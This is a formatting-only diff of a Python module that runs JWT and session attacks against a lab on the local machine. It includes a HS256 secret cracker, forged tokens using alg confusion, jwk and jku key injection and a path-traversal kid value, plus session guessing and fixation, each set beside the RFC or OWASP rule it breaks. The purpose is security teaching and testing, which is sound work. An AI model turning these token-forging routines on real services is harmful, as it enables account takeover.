@@ -43,7 +43,9 @@ def crack_hs256(token: str, candidates: Iterable[str]) -> str | None:
     signing_input, _, signature = token.rpartition(".")
     expected = jwt.utils.base64url_decode(signature.encode())
     for word in candidates:
-        if hmac.compare_digest(hmac.new(word.encode(), signing_input.encode(), hashlib.sha256).digest(), expected):
+        if hmac.compare_digest(
+            hmac.new(word.encode(), signing_input.encode(), hashlib.sha256).digest(), expected
+        ):
             return word
     return None
 
@@ -70,7 +72,9 @@ class Attacker:
     def __init__(self, target) -> None:
         url = target if isinstance(target, str) else target.url
         if urlsplit(url).hostname not in LOOPBACK:
-            raise ValueError(f"the attack battery runs against a lab on this machine only, not {url!r}")
+            raise ValueError(
+                f"the attack battery runs against a lab on this machine only, not {url!r}"
+            )
         self._target = target
         self.url = url.rstrip("/")
         self.host = urlsplit(url).hostname
@@ -85,7 +89,9 @@ class Attacker:
 
     def token(self, user: str = "bob", path: str = "/oauth/token", **body) -> str:
         """A genuine token for ``user`` (the attacker's own account, by default)."""
-        response = self.client().post(path, json={"username": user, "password": PASSWORDS[user], **body})
+        response = self.client().post(
+            path, json={"username": user, "password": PASSWORDS[user], **body}
+        )
         response.raise_for_status()
         return response.json()["access_token"]
 
@@ -124,8 +130,14 @@ class JwtAttack:
         against_vulnerable, against_hardened = self.forge(attacker)
         v_status, v_body = attacker.call(self.vulnerable_path, against_vulnerable)
         h_status, h_body = attacker.call("/api/me", against_hardened)
-        return AttackResult(self.name, _verdict(v_status, v_body), _verdict(h_status, h_body), self.rule,
-                            v_status == 200, h_status == 401)
+        return AttackResult(
+            self.name,
+            _verdict(v_status, v_body),
+            _verdict(h_status, h_body),
+            self.rule,
+            v_status == 200,
+            h_status == 401,
+        )
 
 
 ADMIN = {"roles": ["admin"]}
@@ -150,46 +162,73 @@ def _weak_secret(a: Attacker):
     strong = a.token(alg="HS256")
     guess = crack_hs256(strong, words()) or secret
     header = jwt.get_unverified_header(strong)
-    against_hardened = hs256_with_key_bytes({"typ": "at+jwt", "kid": header["kid"]}, a.claims(strong, **ADMIN),
-                                            guess.encode())
+    against_hardened = hs256_with_key_bytes(
+        {"typ": "at+jwt", "kid": header["kid"]}, a.claims(strong, **ADMIN), guess.encode()
+    )
     return forged, against_hardened
 
 
 def _jwk_header(a: Attacker):
     mine = ec.generate_private_key(ec.SECP256R1())
     jwk = ECAlgorithm.to_jwk(mine.public_key(), as_dict=True)
-    forged = jwt.encode(a.claims(**ADMIN), mine, algorithm="ES256",
-                        headers={"typ": "at+jwt", "kid": "es256-1", "jwk": jwk})
+    forged = jwt.encode(
+        a.claims(**ADMIN),
+        mine,
+        algorithm="ES256",
+        headers={"typ": "at+jwt", "kid": "es256-1", "jwk": jwk},
+    )
     return forged, forged
 
 
 def _jku(a: Attacker):
     mine = ec.generate_private_key(ec.SECP256R1())
-    jwks = {"keys": [{**ECAlgorithm.to_jwk(mine.public_key(), as_dict=True), "kid": "attacker-1", "alg": "ES256"}]}
-    url = a.client().post("/vulnerable/uploads", json=jwks).json()["url"]  # hosted on the lab itself
-    forged = jwt.encode(a.claims(**ADMIN), mine, algorithm="ES256",
-                        headers={"typ": "at+jwt", "kid": "attacker-1", "jku": url})
+    jwks = {
+        "keys": [
+            {
+                **ECAlgorithm.to_jwk(mine.public_key(), as_dict=True),
+                "kid": "attacker-1",
+                "alg": "ES256",
+            }
+        ]
+    }
+    url = (
+        a.client().post("/vulnerable/uploads", json=jwks).json()["url"]
+    )  # hosted on the lab itself
+    forged = jwt.encode(
+        a.claims(**ADMIN),
+        mine,
+        algorithm="ES256",
+        headers={"typ": "at+jwt", "kid": "attacker-1", "jku": url},
+    )
     return forged, forged
 
 
 def _kid_path(a: Attacker):
-    forged = hs256_with_key_bytes({"typ": "at+jwt", "kid": "../public/empty.txt"}, a.claims(**ADMIN), b"")
+    forged = hs256_with_key_bytes(
+        {"typ": "at+jwt", "kid": "../public/empty.txt"}, a.claims(**ADMIN), b""
+    )
     return forged, forged
 
 
 def _alg_confusion(a: Attacker):
     jwks = a.client().get("/.well-known/jwks.json").json()  # the public key, as anyone can get it
     public = jwt.PyJWK(next(k for k in jwks["keys"] if k["kid"] == "rs256-1")).key
-    pem = public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
+    pem = public.public_bytes(
+        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
+    )
     forged = hs256_with_key_bytes({"typ": "at+jwt", "kid": "rs256-1"}, a.claims(**ADMIN), pem)
     return forged, forged
 
 
 def _predictable_session(a: Attacker) -> AttackResult:
     victim = a.client()
-    victim.post("/vulnerable/session/login", json={"username": "alice", "password": PASSWORDS["alice"]})
+    victim.post(
+        "/vulnerable/session/login", json={"username": "alice", "password": PASSWORDS["alice"]}
+    )
     attacker = a.client()
-    mine = attacker.post("/vulnerable/session/login", json={"username": "bob", "password": PASSWORDS["bob"]}).json()["session"]
+    mine = attacker.post(
+        "/vulnerable/session/login", json={"username": "bob", "password": PASSWORDS["bob"]}
+    ).json()["session"]
     guess = str(int(mine) - 1)  # the session opened just before the attacker's
     v = a.client().get("/vulnerable/session/me", headers={"Cookie": f"vsession={guess}"})
     # Hardened: the lab's IDs are 256 random bits; the same "neighbour" guess goes nowhere.
@@ -198,9 +237,14 @@ def _predictable_session(a: Attacker) -> AttackResult:
     own = real.cookies["session"]
     neighbour = own[:-1] + ("A" if own[-1] != "A" else "B")
     h = a.client().get("/session/me", headers={"Cookie": f"session={neighbour}"})
-    return AttackResult("predictable session ID", _verdict(v.status_code, v.json()), _verdict(h.status_code, h.json()),
-                        "OWASP Session Management: session ID entropy (>= 64 bits, from a CSPRNG)",
-                        v.status_code == 200, h.status_code == 401)
+    return AttackResult(
+        "predictable session ID",
+        _verdict(v.status_code, v.json()),
+        _verdict(h.status_code, h.json()),
+        "OWASP Session Management: session ID entropy (>= 64 bits, from a CSPRNG)",
+        v.status_code == 200,
+        h.status_code == 401,
+    )
 
 
 def _fixation(a: Attacker) -> AttackResult:
@@ -208,7 +252,10 @@ def _fixation(a: Attacker) -> AttackResult:
     planted = attacker.get("/vulnerable/session/start").json()["session"]
     victim = a.client()
     victim.cookies.set("vsession", planted, domain=a.host, path="/vulnerable/")
-    victim.post("/vulnerable/session/login-keep-id", json={"username": "alice", "password": PASSWORDS["alice"]})
+    victim.post(
+        "/vulnerable/session/login-keep-id",
+        json={"username": "alice", "password": PASSWORDS["alice"]},
+    )
     v = a.client().get("/vulnerable/session/me", headers={"Cookie": f"vsession={planted}"})
     # Hardened: plant an ID of the attacker's own session; the login issues a new one.
     own = a.client()
@@ -218,26 +265,59 @@ def _fixation(a: Attacker) -> AttackResult:
     victim2.cookies.set("session", planted_real, domain=a.host, path="/")
     victim2.post("/session/login", json={"username": "alice", "password": PASSWORDS["alice"]})
     h = a.client().get("/session/me", headers={"Cookie": f"session={planted_real}"})
-    return AttackResult("session fixation", _verdict(v.status_code, v.json()), _verdict(h.status_code, h.json()),
-                        "OWASP Session Management: renew the session ID at login",
-                        v.status_code == 200, h.status_code == 401)
+    return AttackResult(
+        "session fixation",
+        _verdict(v.status_code, v.json()),
+        _verdict(h.status_code, h.json()),
+        "OWASP Session Management: renew the session ID at login",
+        v.status_code == 200,
+        h.status_code == 401,
+    )
 
 
 ATTACKS: list[Callable[[Attacker], AttackResult]] = [  # JwtAttack instances first, then sessions
-    JwtAttack("signature not verified", "RFC 7519 section 7.2: validate the JWS before any claim",
-                "/vulnerable/no-verify/me", _no_verify),
-    JwtAttack("alg: none", "RFC 8725 sections 2.1 and 3.1: an algorithm allowlist, never none",
-                "/vulnerable/alg-none/me", _alg_none),
-    JwtAttack("weak HMAC secret", "RFC 8725 sections 2.2 and 3.5, RFC 7518 section 3.2: 32+ random bytes",
-                "/vulnerable/weak-secret/me", _weak_secret),
-    JwtAttack("key in the jwk header", "RFC 8725 section 3.10 (do not trust received claims), CVE-2018-0114: keys come from the verifier's own set",
-                "/vulnerable/jwk-header/me", _jwk_header),
-    JwtAttack("key from the jku URL", "RFC 8725 sections 2.9 and 3.10: never follow a token's jku blindly (SSRF); allowlist key URLs",
-                "/vulnerable/jku/me", _jku),
-    JwtAttack("kid as a file path", "RFC 8725 sections 2.9 and 3.10: a kid is a name looked up in your own set, never a path",
-                "/vulnerable/kid-path/me", _kid_path),
-    JwtAttack("algorithm confusion", "RFC 8725 sections 2.1 and 3.1: each key is used with exactly one algorithm",
-                "/vulnerable/alg-confusion/me", _alg_confusion),
+    JwtAttack(
+        "signature not verified",
+        "RFC 7519 section 7.2: validate the JWS before any claim",
+        "/vulnerable/no-verify/me",
+        _no_verify,
+    ),
+    JwtAttack(
+        "alg: none",
+        "RFC 8725 sections 2.1 and 3.1: an algorithm allowlist, never none",
+        "/vulnerable/alg-none/me",
+        _alg_none,
+    ),
+    JwtAttack(
+        "weak HMAC secret",
+        "RFC 8725 sections 2.2 and 3.5, RFC 7518 section 3.2: 32+ random bytes",
+        "/vulnerable/weak-secret/me",
+        _weak_secret,
+    ),
+    JwtAttack(
+        "key in the jwk header",
+        "RFC 8725 section 3.10 (do not trust received claims), CVE-2018-0114: keys come from the verifier's own set",
+        "/vulnerable/jwk-header/me",
+        _jwk_header,
+    ),
+    JwtAttack(
+        "key from the jku URL",
+        "RFC 8725 sections 2.9 and 3.10: never follow a token's jku blindly (SSRF); allowlist key URLs",
+        "/vulnerable/jku/me",
+        _jku,
+    ),
+    JwtAttack(
+        "kid as a file path",
+        "RFC 8725 sections 2.9 and 3.10: a kid is a name looked up in your own set, never a path",
+        "/vulnerable/kid-path/me",
+        _kid_path,
+    ),
+    JwtAttack(
+        "algorithm confusion",
+        "RFC 8725 sections 2.1 and 3.1: each key is used with exactly one algorithm",
+        "/vulnerable/alg-confusion/me",
+        _alg_confusion,
+    ),
     _predictable_session,
     _fixation,
 ]
@@ -266,14 +346,25 @@ def verifier_battery(target, verify: Callable[[str], dict]) -> list[AttackResult
         forged, against_hardened = attack.forge(attacker)
         try:
             claims = verify(forged)
-            verdict, accepted = f"accepted: sub {claims.get('sub')!r}, roles {claims.get('roles')}", True
+            verdict, accepted = (
+                f"accepted: sub {claims.get('sub')!r}, roles {claims.get('roles')}",
+                True,
+            )
         except jwt.InvalidTokenError as exc:
             verdict, accepted = f"refused: {type(exc).__name__}: {exc}", False
         except Exception as exc:  # noqa: BLE001 - the point is to show it
             verdict, accepted = f"crashed: {type(exc).__name__}: {exc}", False
         h_status, h_body = attacker.call("/api/me", against_hardened)
-        rows.append(AttackResult(attack.name, verdict, _verdict(h_status, h_body), attack.rule, accepted,
-                                 h_status == 401))
+        rows.append(
+            AttackResult(
+                attack.name,
+                verdict,
+                _verdict(h_status, h_body),
+                attack.rule,
+                accepted,
+                h_status == 401,
+            )
+        )
     return rows
 
 
@@ -281,7 +372,9 @@ def table(results: list[AttackResult]) -> str:
     """The results as text: attack, the vulnerable endpoint's answer, the hardened lab's answer."""
     lines = []
     for r in results:
-        lines.append(f"{r.attack}\n    vulnerable: {r.vulnerable}\n    hardened:   {r.hardened}\n    rule:       {r.rule}")
+        lines.append(
+            f"{r.attack}\n    vulnerable: {r.vulnerable}\n    hardened:   {r.hardened}\n    rule:       {r.rule}"
+        )
     return "\n".join(lines)
 
 
@@ -296,6 +389,8 @@ def summary(results: list[AttackResult], against: str = "vulnerable endpoint") -
         return "CRASHED (a 500)" if r.vulnerable.startswith("crashed") else "refused"
 
     head = f"{'attack':<{width}}  {against:<{left}} hardened lab"
-    rows = [f"{r.attack:<{width}}  {fell(r):<{left}} {'refused (holds)' if r.hardened_refused else 'ACCEPTED'}"
-            for r in results]
+    rows = [
+        f"{r.attack:<{width}}  {fell(r):<{left}} {'refused (holds)' if r.hardened_refused else 'ACCEPTED'}"
+        for r in results
+    ]
     return "\n".join([head] + rows)
